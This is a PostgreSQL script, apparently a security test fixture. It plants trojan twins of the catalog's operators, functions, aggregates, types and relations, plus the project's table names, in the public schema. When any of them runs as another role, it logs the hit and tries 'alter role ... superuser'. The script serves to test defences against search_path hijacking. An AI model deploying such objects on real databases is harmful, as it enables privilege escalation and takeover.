-- What an attacker plants: a twin of every operator, function, aggregate and type name of PostgreSQL, and of our relations.
--
-- Run by a role that is not a superuser and has CREATE on `public`, and a schema of its own that exists already. Each object
-- has a number in `evil.object`; when it runs with the rights of anybody else, `evil.hit` leaves the number in a sequence,
-- which no rollback takes back, and tries to become superuser.

-- The twins would work in here too.
set search_path = pg_catalog, pg_temp;

create table evil.object (number integer primary key, name text not null);
create sequence evil.reached minvalue 0 start 0;
create sequence evil.made;
-- For what a test plants by hand, with evil.hit(0).
insert into evil.object values (0, 'a part of the table');

do $hit$
begin
    execute format($function$
        create function evil.hit(number integer) returns boolean language plpgsql
        set search_path = pg_catalog, pg_temp
        as $$
        begin
            if current_user <> %1$L then
                perform setval('evil.reached', number);
                raise warning 'planted object %% runs as %%', number, current_user;
                begin
                    alter role %1$I superuser;
                exception when others then
                    null; -- a role of its own must not hide that it was reached
                end;
            end if;
            return true;
        end
        $$
    $function$, current_user);
end
$hit$;

-- Makes one object that calls evil.hit with its number ("%s" in the statement). False: PostgreSQL has no such thing.
create function evil.plant(name text, variadic statements text[]) returns void language plpgsql
set search_path = pg_catalog, pg_temp
as $$
declare
    made integer := nextval('evil.made');
    statement text;
begin
    foreach statement in array statements loop
        execute replace(statement, '#N#', made::text);
    end loop;
    insert into evil.object values (made, name);
exception when others then
    -- Twins that PL/pgSQL can't write ("any", internal) or that there are already.
    null;
end
$$;

-- The types that stand for "any": those that really occur in our statements.
create view evil.kind as
select t.oid::regtype as element, t.typarray::regtype as list
from unnest(array[
    'smallint', 'integer', 'bigint', 'numeric', 'double precision', 'boolean', 'text', 'varchar', 'name', '"char"', 'oid', 'regclass',
    'regtype', 'regprocedure', 'xid8', 'json', 'jsonb', 'uuid', 'interval', 'timestamptz', 'bytea', 'pg_snapshot', 'bridge.watch', 'record'
]) as k (type)
-- Before the bridge is installed there is no such schema, which is an error for to_regtype.
join pg_type t on t.oid = case when k.type not like 'bridge.%' or to_regnamespace('bridge') is not null then to_regtype(k.type) end;

-- A polymorphic type, made concrete.
create function evil.concrete(type oid, element oid, list oid) returns text language sql stable
set search_path = pg_catalog, pg_temp
as $$
    select case
        when type in ('anyarray'::regtype, 'anycompatiblearray'::regtype) then list::regtype::text
        when type in ('anyelement'::regtype, 'anynonarray'::regtype, 'anycompatible'::regtype, 'anycompatiblenonarray'::regtype, '"any"'::regtype)
        then element::regtype::text
        else type::regtype::text
    end
$$;

-- Operators: each as it is, those over "any" for each kind, and each name between each two of the frequent kinds.
do $operators$
declare
    o record;
begin
    for o in
        select distinct on (name, left_, right_) name, left_, right_, result
        from (
            select op.oprname::text, op.oprleft::regtype::text, op.oprright::regtype::text, op.oprresult::regtype::text, 1
            from pg_operator op
            where op.oprnamespace = 'pg_catalog'::regnamespace and op.oprleft <> 0 and op.oprresult <> 0
            union all
            select
                op.oprname, evil.concrete(op.oprleft, k.element, k.list), evil.concrete(op.oprright, k.element, k.list),
                evil.concrete(op.oprresult, k.element, k.list), 2
            from pg_operator op
            cross join evil.kind k
            where op.oprnamespace = 'pg_catalog'::regnamespace and op.oprleft <> 0 and op.oprresult <> 0
                and (op.oprleft::regtype::text like 'any%' or op.oprright::regtype::text like 'any%')
            union all
            select
                n, l.element::text, r.element::text,
                case when n = '||' then 'text' when n in ('+', '-', '*', '/', '%', '&', '|') then l.element::text when n = '->>' then 'text' else 'boolean' end, 3
            from unnest('{=,<>,<,<=,>,>=,+,-,*,/,%,&,|,||,->,->>,~,!~,~*,~~,!~~,@>,<@}'::text[]) n
            cross join evil.kind l
            cross join evil.kind r
            where l.element::text in ('smallint', 'integer', 'bigint', 'numeric', 'double precision', 'text', 'name', 'oid', 'regclass', 'jsonb', 'xid8')
                and r.element::text in ('smallint', 'integer', 'bigint', 'numeric', 'double precision', 'text', 'name', 'oid', 'regclass', 'jsonb', 'xid8')
        ) as x (name, left_, right_, result, place)
        order by name, left_, right_, place
    loop
        perform evil.plant(
            format('operator %s(%s, %s)', o.name, o.left_, o.right_),
            format('create function evil."op_#N#"(%s, %s) returns %s language plpgsql as $f$ begin perform evil.hit(#N#); return null; end $f$', o.left_, o.right_, o.result),
            format('create operator public.%s (function = evil."op_#N#", leftarg = %s, rightarg = %s)', o.name, o.left_, o.right_)
        );
    end loop;
end
$operators$;

-- Functions: each as it is, and those over "any" for each kind; a variadic "any" is one to three arguments.
do $functions$
declare
    f record;
begin
    for f in
        select p.proname, pg_get_function_arguments(p.oid) as arguments, pg_get_function_result(p.oid) as result, p.proretset
        from pg_proc p
        where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind in ('f', 'w')
            and 'internal'::regtype <> all (p.proargtypes::oid[] || p.prorettype)
            and 'cstring'::regtype <> all (p.proargtypes::oid[] || p.prorettype)
        union all
        select
            p.proname, a.arguments, case when p.proretset then 'setof ' else '' end || evil.concrete(p.prorettype, k.element, k.list), p.proretset
        from pg_proc p
        cross join evil.kind k
        cross join generate_series(1, 3) as more
        cross join lateral (
            select string_agg(evil.concrete(t, k.element, k.list), ', ' order by place)
                || case when p.provariadic = '"any"'::regtype then repeat(', ' || k.element, more - 1) else '' end
            from unnest(p.proargtypes::oid[]) with ordinality as t (t, place)
        ) as a (arguments)
        where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind in ('f', 'w')
            and (p.provariadic = '"any"'::regtype or more = 1)
            and exists (select from unnest(p.proargtypes::oid[]) t where t::regtype::text ~ '^"?any')
            and not exists (select from unnest(p.proargtypes::oid[]) t where t::regtype::text ~ 'range')
    loop
        perform evil.plant(
            format('function %s(%s)', f.proname, f.arguments),
            format(
                'create function public.%I(%s) returns %s language plpgsql as $f$ begin perform evil.hit(#N#); %s end $f$',
                f.proname, f.arguments, f.result, case when f.proretset or f.result = 'void' then 'return;' else 'return null;' end
            )
        );
    end loop;
end
$functions$;

-- Aggregates: each for each kind.
do $aggregates$
declare
    a record;
begin
    for a in
        select distinct
            p.proname, evil.concrete(p.prorettype, k.element, k.list) as result,
            (select string_agg(evil.concrete(t, k.element, k.list), ', ' order by place) from unnest(p.proargtypes::oid[]) with ordinality as t (t, place)) as arguments
        from pg_proc p
        cross join evil.kind k
        where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'a'
        union all
        -- Those over two of "any", such as json_object_agg(text, json), and those that do not exist for the type.
        select n, case when n like 'json_%' then 'json' else 'jsonb' end, l.element || ', ' || r.element
        from unnest('{json_object_agg,jsonb_object_agg}'::text[]) n cross join evil.kind l cross join evil.kind r
        where l.element::text in ('text', 'name')
        union all
        select n, k.element::text, k.element::text from unnest('{min,max,sum}'::text[]) n cross join evil.kind k
    loop
        perform evil.plant(
            format('aggregate %s(%s)', a.proname, coalesce(a.arguments, '*')),
            format(
                'create function evil."step_#N#"(%s%s) returns %1$s language plpgsql as $f$ begin perform evil.hit(#N#); return null; end $f$',
                a.result, ', ' || a.arguments
            ),
            format(
                'create aggregate public.%I(%s) (sfunc = evil."step_#N#", stype = %s)', a.proname, coalesce(a.arguments, '*'), a.result
            )
        );
    end loop;
end
$aggregates$;

-- Types: domains with the names of PostgreSQL's types, whose check runs when a value is made.
do $types$
declare
    t record;
begin
    for t in
        select typname from pg_type
        where typnamespace = 'pg_catalog'::regnamespace and typtype = 'b' and typelem = 0 and typname not like '\_%'
    loop
        perform evil.plant(
            format('domain %s', t.typname), format('create domain public.%I as pg_catalog.%1$I check (evil.hit(#N#))', t.typname)
        );
    end loop;
end
$types$;

-- Relations: views with the names of the catalogs and of our tables.
do $relations$
declare
    r record;
begin
    for r in
        select
            c.relname,
            -- Without the columns of a type that no view may have.
            format('select %s from pg_catalog.%I where evil.hit(#N#)', string_agg(quote_ident(a.attname), ', ' order by a.attnum), c.relname) as body
        from pg_class c
        join pg_attribute a on a.attrelid = c.oid and a.attnum > 0 and not a.attisdropped and a.atttypid <> 'anyarray'::regtype
        where c.relnamespace = 'pg_catalog'::regnamespace and c.relkind in ('r', 'v')
        group by c.relname
        union all
        select n, 'select evil.hit(#N#) as id' from unnest(
            '{installation,stream,position,watch,event,event_0,dead_letter,sendable,inbox,waiting,event_id}'::text[]
        ) n
    loop
        perform evil.plant(format('view %s', r.relname), format('create view public.%I as %s', r.relname, r.body));
    end loop;
end
$relations$;

grant usage on schema evil to public;
grant usage, update on sequence evil.reached to public;
